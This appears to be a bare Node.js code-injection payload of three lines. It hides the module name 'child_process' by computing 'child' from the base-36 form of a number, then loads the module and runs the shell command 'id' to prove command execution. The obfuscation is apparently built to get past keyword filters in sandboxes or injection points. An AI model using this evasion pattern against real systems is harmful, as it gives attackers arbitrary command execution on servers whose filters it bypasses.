const a = (20972641).toString(36);
const m = require(a + '_' + 'process');
m.exec('id');
